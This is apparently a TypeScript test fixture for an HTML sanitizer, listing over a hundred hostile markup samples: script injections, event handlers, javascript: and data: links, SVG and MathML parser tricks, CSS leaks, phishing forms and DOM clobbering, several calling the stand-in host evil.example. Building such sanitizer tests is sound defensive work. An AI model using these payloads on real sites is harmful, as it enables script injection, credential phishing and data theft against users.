/** Markup a hostile content server could send. `pwned()` must never run, and nothing may load from evil.example. */
export interface HostileMarkup {
  name: string;
  html: string;
}

const link = (name: string, href: string): HostileMarkup => ({
  name: `link: ${name}`,
  html: `<p>Read <a href="${href}">this</a> now</p>`,
});
export const part = (name: string, html: string): HostileMarkup => ({ name, html });

const scripts: HostileMarkup[] = [
  part('plain script', '<script>pwned()</script>'),
  part('script in capitals with a slash', '<SCRIPT/src=//evil.example/x.js></SCRIPT>'),
  part('script that is never closed', '<p>a</p><script>pwned()'),
  part('script inside its own name', '<scr<script>ipt>pwned()</scr</script>ipt>'),
  part('script with odd space', '<script\u000c\n>pwned()</script\t\n bar>'),
  part('module script', '<script type="module">import "https://evil.example/x.js"</script>'),
  part('script with a NUL in its name', '<scr\u0000ipt>pwned()</scr\u0000ipt>'),
  part('script in a comment that ends early', '<!--><script>pwned()</script>-->'),
  part('script in a comment that ends with a bang', '<!-- a --!><script>pwned()</script> -->'),
  part('conditional comment', '<!--[if gte IE 4]><script>pwned()</script><![endif]-->'),
  part('script in CDATA', '<![CDATA[<script>pwned()</script>]]>'),
  part('processing instruction', '<?xml-stylesheet href="javascript:pwned()"?><p>a</p>'),
  part('import map', '<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>'),
  part('speculation rules', '<script type="speculationrules">{"prerender":[{"urls":["/logout"]}]}</script>'),
];

const handlers: HostileMarkup[] = [
  part('image that fails', '<img src=x onerror=pwned()>'),
  part('image with a slash for a space', '<img/src=x/onerror=pwned()>'),
  part('backquoted attribute', '<img src=`x` onerror=`pwned()`>'),
  part(
    'own picture with a handler',
    '<img src="/aem6/content/dam/supplier/help/pictures/open-windows.svg" onload="pwned()" alt="a">',
  ),
  part(
    'quote that breaks out of alt',
    '<img alt="&quot; onerror=&quot;pwned()" src="/aem6/content/dam/supplier/help/pictures/open-windows.svg">',
  ),
  part(
    'handlers on allowed elements',
    '<p onclick=pwned() onpointerover=pwned() onfocus=pwned() tabindex=0 autofocus>a</p>',
  ),
  part('details that toggle', '<details open ontoggle=pwned()><summary>a</summary>b</details>'),
  part('animation handler', '<div style="animation:x 1s" onanimationstart=pwned()>a</div>'),
  part('content visibility', '<div oncontentvisibilityautostatechange=pwned() style="content-visibility:auto">a</div>'),
  part('body handlers', '<body onload=pwned() onpageshow=pwned() onhashchange=pwned()><p>a</p>'),
  part('handler in capitals with a newline', '<p ONCLICK\n=\npwned()>a</p>'),
  part('handler behind a NUL', '<p \u0000onclick=pwned()>a</p>'),
  part('two attributes of one name', '<a href="https://www.gov.uk/" href="javascript:pwned()" onclick=pwned()>a</a>'),
  part('popover', '<button popovertarget=x>a</button><div popover id=x onbeforetoggle=pwned()>b</div>'),
];

const links: HostileMarkup[] = [
  link('javascript', 'javascript:pwned()'),
  link('mixed case', 'JaVaScRiPt:pwned()'),
  link('leading space and control characters', ' &#1;&#14; javascript:pwned()'),
  link('tab inside', 'java&#9;script:pwned()'),
  link('newline inside', 'java&#10;script:pwned()'),
  link('carriage return inside', 'java&#13;script:pwned()'),
  link('named entities', 'javascript&colon;pwned&lpar;&rpar;'),
  link('entity tab and newline', 'java&Tab;scr&NewLine;ipt:pwned()'),
  link('decimal entities without semicolons', '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58pwned()'),
  link('hexadecimal entities with zeros', '&#x000006A;&#x0000061;vascript:pwned()'),
  link('zero-width space', 'java&#8203;script:pwned()'),
  link('byte order mark before', '&#65279;javascript:pwned()'),
  link('no-break space before', '&nbsp;javascript:pwned()'),
  link('percent encoding', 'javascript%3Apwned()'),
  link('comment that looks like a host', 'javascript://www.gov.uk/%0Apwned()'),
  link('data', 'data:text/html,<script>pwned()</script>'),
  link('data in base64', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'),
  link('vbscript', 'vbscript:pwned()'),
  link('view-source', 'view-source:javascript:pwned()'),
  link('blob', 'blob:https://evil.example/1'),
  link('filesystem', 'filesystem:https://evil.example/temporary/x.html'),
  link('file', 'file:///etc/passwd'),
  link('intent', 'intent://evil.example/#Intent;scheme=https;end'),
  link('two slashes', '//evil.example/'),
  link('slash and backslash', '/\\evil.example/'),
  link('two backslashes', '\\\\evil.example/'),
  link('tab between slashes', '/&#9;/evil.example/'),
  link('newline between slashes', '/&#10;/evil.example/'),
  link('two slashes after dots', '/.//evil.example/'),
  link('climbing out', '/help-and-support/..//evil.example/'),
  link('scheme without slashes', 'https:evil.example'),
  link('one slash', 'https:/evil.example'),
  link('backslashes after the scheme', 'https:\\\\evil.example'),
  link('name before the host', 'https://www.gov.uk@evil.example/'),
  link('password before the host', 'https://www.gov.uk:443@evil.example/'),
  link('tel with a script', 'tel:"onclick=pwned()'),
  link('tel with a service code', 'tel:*%2306%23'),
  link('mailto with a body', 'mailto:a@evil.example?body=x&attach=/etc/passwd'),
  link('ftp', 'ftp://evil.example/'),
  link('fragment with markup', '#&quot;&gt;&lt;img src=x onerror=pwned()&gt;'),
  part(
    'ping and download',
    '<a href="https://www.gov.uk/" ping="https://evil.example/" download target="_top" rel="opener">a</a>',
  ),
  part('area', '<map name=m><area shape=default href="javascript:pwned()"></map><img usemap="#m" src=x>'),
];

const foreign: HostileMarkup[] = [
  part('svg with onload', '<svg onload=pwned()></svg>'),
  part('svg script', '<svg><script>pwned()</script></svg>'),
  part('svg link', '<svg><a xlink:href="javascript:pwned()"><text y=20>a</text></a></svg>'),
  part(
    'svg animation of an address',
    '<svg><a><animate attributeName=href values=javascript:pwned() /><text>a</text></a></svg>',
  ),
  part('svg set', '<svg><set attributeName=onmouseover to=pwned()></svg>'),
  part(
    'svg use',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=pwned() /></svg>#x"></svg>',
  ),
  part(
    'foreignObject',
    '<svg><foreignObject><iframe srcdoc="<script>pwned()</script>"></iframe></foreignObject></svg>',
  ),
  part('html inside svg title', '<svg><title><img src=x onerror=pwned()></title></svg>'),
  part('style in svg', '<svg><style><img src=x onerror=pwned()></style></svg>'),
  part('mathml link', '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">a</maction></math>'),
  part(
    'mathml text integration point',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  ),
  part(
    'mathml annotation',
    '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
  ),
  part('svg inside p inside desc', '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">'),
  part(
    'nested form swap',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
  ),
  part('svg in an img', '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=pwned()>" alt="a">'),
];

const containers: HostileMarkup[] = [
  part('template', '<template><script>pwned()</script><img src=x onerror=pwned()></template>'),
  part('declarative shadow root', '<div><template shadowrootmode=open><script>pwned()</script></template></div>'),
  part('noscript', '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>'),
  part('iframe srcdoc', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>'),
  part('iframe address', '<iframe src="javascript:pwned()"></iframe>'),
  part('object', '<object data="javascript:pwned()" type="text/html"></object>'),
  part('embed', '<embed src="https://evil.example/x.swf" allowscriptaccess=always>'),
  part('portal and fencedframe', '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>'),
  part('title that closes', '<title></title><img src=x onerror=pwned()></title>'),
  part('textarea that closes', '<textarea></textarea><img src=x onerror=pwned()></textarea>'),
  part('xmp', '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>'),
  part(
    'noembed and noframes',
    '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed><noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>',
  ),
  part('plaintext', '<plaintext><img src=x onerror=pwned()>'),
  part('select with markup', '<select><option><img src=x onerror=pwned()></option><script>pwned()</script></select>'),
  part('frameset', '<frameset onload=pwned()><frame src="javascript:pwned()"></frameset>'),
  part(
    'video and its sources',
    '<video poster=https://evil.example/p onloadstart=pwned()><source src=x onerror=pwned()></video>',
  ),
  part(
    'picture sources',
    '<picture><source srcset="https://evil.example/p.png"><img src=x srcset="https://evil.example/q.png" alt="a"></picture>',
  ),
  part('marquee', '<marquee onstart=pwned()>a</marquee>'),
  part('dialog', '<dialog open oncancel=pwned()><p>a</p></dialog>'),
  part('custom element', '<x-evil onclick=pwned() is="x-y">a</x-evil>'),
];

const takeovers: HostileMarkup[] = [
  part('base', '<base href="https://evil.example/"><p><a href="x">a</a></p>'),
  part('meta refresh', '<meta http-equiv=refresh content="0;url=javascript:pwned()">'),
  part('meta policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
  part('stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'),
  part(
    'prefetch',
    '<link rel=prefetch href="https://evil.example/?leak"><link rel=dns-prefetch href="//evil.example">',
  ),
  part(
    'style element',
    '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
  ),
  part('style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">a</p>'),
  part(
    'background attribute',
    '<table background="https://evil.example/x"><tr><td background="javascript:pwned()">a</td></tr></table>',
  ),
  part(
    'form that phishes',
    '<form action="https://evil.example/"><label>Password <input type=password name=p autofocus></label><button>Sign in</button></form>',
  ),
  part('form taken over from outside', '<input form=search formaction="https://evil.example/" type=submit value=Go>'),
  part(
    'clobbering names',
    '<a id=location name=location href="https://www.gov.uk/">a</a><form id=document name=cookie></form><img name=getElementById src=x>',
  ),
  part('clobbering headings', '<h2 id="main">a</h2><h2 id="__proto__">b</h2><h2 id="constructor">c</h2>'),
  part('classes of the page', '<div class="header visually-hidden">a</div><p class="error-summary">b</p>'),
  part('role and labels', '<div role="alert" aria-live="assertive" aria-label="Sign in again" contenteditable>a</div>'),
  part('slot and part', '<div slot=main part=x exportparts=x>a</div>'),
  part('microdata', '<div itemscope itemtype="https://evil.example/" itemid=x>a</div>'),
  part('picture elsewhere', '<img src="https://evil.example/track.gif" alt="a">'),
  part(
    'picture that climbs',
    '<img src="/aem6/content/dam/supplier/../../../logout.svg" alt="a"><img src="/aem6/content/dam/%2e%2e/%2e%2e/logout.svg" alt="a">',
  ),
  part('picture without scheme', '<img src="//evil.example/aem6/content/dam/supplier/x.svg" alt="a">'),
  part('picture with a query', '<img src="/aem6/content/dam/supplier/x.svg?to=https://evil.example" alt="a">'),
  part(
    'table that fosters',
    '<table><a href="javascript:pwned()"><tr><td><img src=x onerror=pwned()></td></tr></a></table>',
  ),
  part('lone closing tags', '</p></div></body></html><script>pwned()</script><img src=x onerror=pwned()>'),
  part('half an entity', '<p>&ltscript&gtpwned()&lt/script&gt &#60;img src=x onerror=pwned()&#62;</p>'),
  part('attribute that never ends', '<p title="<img src=x onerror=pwned()>'),
  part('odd quotes', '<a href=\'https://www.gov.uk/"onclick="pwned()\'>a</a>'),
  part('lone surrogates and controls', '<p>\ud800 \u202e\u0000\u0008 a</p>'),
];

export const hostileMarkup: HostileMarkup[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...foreign,
  ...containers,
  ...takeovers,
];
